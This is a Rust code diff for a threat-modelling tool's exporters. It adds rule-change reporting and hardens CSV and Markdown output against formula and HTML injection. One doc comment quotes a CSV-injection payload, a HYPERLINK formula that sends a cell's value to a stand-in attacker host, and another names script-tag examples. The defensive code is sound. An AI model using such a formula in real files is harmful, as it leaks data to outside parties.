@@ -83,6 +83,8 @@ struct JsonDoc<'a> {
     out_of_scope: &'a [crate::analysis::OutOfScope],
     orphaned: Vec<JsonOrphan<'a>>,
     summary: &'a crate::analysis::Summary,
+    /// How the rules differ from the built-in ones (empty when they do not).
+    rule_changes: &'a [crate::analysis::RuleChange],
 }
 
 /// The analysis as a JSON document.
@@ -103,15 +105,64 @@ pub fn json(project: &Project, a: &Analysis) -> String {
             })
             .collect(),
         summary: &a.summary,
+        rule_changes: &a.rule_changes,
     };
     let mut s = serde_json::to_string_pretty(&doc).unwrap_or_default();
     s.push('\n');
     s
 }
 
-/// One row per finding; UTF-8 with a byte-order mark, RFC 4180 quoting.
+/// A cell a spreadsheet will not run: text starting with `=`, `+`, `-`, `@`, a tab or a
+/// carriage return is a formula to Excel, LibreOffice and Google Sheets, so it gets a
+/// leading apostrophe as OWASP recommends against CSV injection (CWE-1236). An element
+/// named `=HYPERLINK("http://evil.example/?"&A1,"x")` is shown as written, not followed.
+pub fn csv_cell(s: &str) -> std::borrow::Cow<'_, str> {
+    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        std::borrow::Cow::Owned(format!("'{s}"))
+    } else {
+        std::borrow::Cow::Borrowed(s)
+    }
+}
+
+/// A CSV writer whose every cell goes through [`csv_cell`]: the one way this program
+/// writes CSV.
+pub struct CsvWriter {
+    inner: csv::Writer<Vec<u8>>,
+}
+
+impl CsvWriter {
+    pub fn new() -> Self {
+        Self {
+            inner: csv::Writer::from_writer(Vec::new()),
+        }
+    }
+
+    pub fn write_record<'a>(
+        &mut self,
+        cells: impl IntoIterator<Item = &'a str>,
+    ) -> csv::Result<()> {
+        self.inner
+            .write_record(cells.into_iter().map(csv_cell).map(|c| c.into_owned()))
+    }
+
+    /// The text, with a byte-order mark so spreadsheet programs read it as UTF-8 (names
+    /// such as "Zahlungsdienst Ärger" or "支付服务" would be garbled otherwise).
+    pub fn finish(self) -> csv::Result<String> {
+        let bytes = self.inner.into_inner().map_err(|e| e.into_error())?;
+        Ok(format!("\u{feff}{}", String::from_utf8_lossy(&bytes)))
+    }
+}
+
+impl Default for CsvWriter {
+    fn default() -> Self {
+        Self::new()
+    }
+}
+
+/// One row per finding; UTF-8 with a byte-order mark, RFC 4180 quoting, formulas
+/// neutralised.
 pub fn csv(a: &Analysis) -> Result<String, csv::Error> {
-    let mut w = csv::Writer::from_writer(Vec::new());
+    let mut w = CsvWriter::new();
     w.write_record([
         "key",
         "rule",
@@ -152,17 +203,52 @@ pub fn csv(a: &Analysis) -> Result<String, csv::Error> {
             &f.record.links.join(" "),
         ])?;
     }
-    let bytes = w.into_inner().map_err(|e| e.into_error())?;
-    // A byte-order mark, so spreadsheet programs read the file as UTF-8 (names such as
-    // "Zahlungsdienst Ärger" or "支付服务" would be garbled otherwise).
-    Ok(format!("\u{feff}{}", String::from_utf8_lossy(&bytes)))
+    w.finish()
 }
 
-fn md_cell(s: &str) -> String {
-    s.replace('\\', "\\\\")
-        .replace('|', "\\|")
-        .replace("\r\n", "<br>")
-        .replace('\n', "<br>")
+/// User text made inert for Markdown (GitHub, GitLab, wikis): HTML characters become
+/// entities, so `<script>` or `<img onerror=…>` is shown, never run; Markdown's own
+/// inline syntax (emphasis, code, links and images, tables, strike-through) is
+/// backslash-escaped; line breaks become `<br>` so a cell or list item stays one line.
+pub fn md_cell(s: &str) -> String {
+    let mut out = String::with_capacity(s.len() + 8);
+    let mut chars = s.chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            '&' => out.push_str("&amp;"),
+            '<' => out.push_str("&lt;"),
+            '>' => out.push_str("&gt;"),
+            '\r' if chars.peek() == Some(&'\n') => {}
+            '\r' | '\n' => out.push_str("<br>"),
+            '\\' | '`' | '*' | '_' | '[' | ']' | '|' | '~' | '#' | '!' => {
+                out.push('\\');
+                out.push(c);
+            }
+            c => out.push(c),
+        }
+    }
+    out
+}
+
+/// Multi-line user text (workshop notes) made inert like [`md_cell`], keeping its lines
+/// as separate lines; a line that would start a block (`- `, `+ `, `1. `, `>`) is escaped.
+pub fn md_block(s: &str) -> String {
+    s.lines()
+        .map(|line| {
+            let cell = md_cell(line);
+            let starts_block = cell.starts_with(['-', '+', '='])
+                || cell.starts_with("&gt;")
+                || cell
+                    .split_once(['.', ')'])
+                    .is_some_and(|(n, _)| !n.is_empty() && n.chars().all(|c| c.is_ascii_digit()));
+            if starts_block {
+                format!("\\{cell}")
+            } else {
+                cell
+            }
+        })
+        .collect::<Vec<_>>()
+        .join("  \n")
 }
 
 /// A Markdown table of threats per diagram, for a wiki page or a pull request.
@@ -181,6 +267,9 @@ pub fn markdown(project: &Project, a: &Analysis) -> String {
         sum.errors,
         sum.warnings
     );
+    if let Some(changes) = a.rule_changes_text() {
+        let _ = writeln!(s, "## Rule changes\n\n**{}**\n", md_cell(&changes));
+    }
     for d in &project.diagrams {
         let rows: Vec<&Finding> = a
             .findings
@@ -270,6 +359,9 @@ pub fn table(project: &Project, a: &Analysis) -> String {
         for o in &a.out_of_scope {
             let _ = writeln!(s, "{}: {}", o.name, o.reason);
         }
+    }
+    if let Some(changes) = a.rule_changes_text() {
+        let _ = writeln!(s, "\nRule changes: {changes}");
     }
     let sum = &a.summary;
     let _ = writeln!(
@@ -403,6 +495,10 @@ pub fn sarif(project: &Project, a: &Analysis, uri: &str, text: &str, version: &s
             }},
             "automationDetails": { "id": format!("threatboard/{}", project.meta.title) },
             "results": results,
+            "properties": {
+                "ruleChanges": a.rule_changes,
+                "ruleChangesSummary": a.rule_changes_text(),
+            },
         }],
     });
     let mut s = serde_json::to_string_pretty(&doc).unwrap_or_default();
@@ -564,7 +660,7 @@ pub fn session_markdown(
         );
     }
     if !session.notes.is_empty() {
-        let _ = writeln!(s, "\n## Notes\n\n{}", session.notes);
+        let _ = writeln!(s, "\n## Notes\n\n{}", md_block(&session.notes));
     }
     s
 }
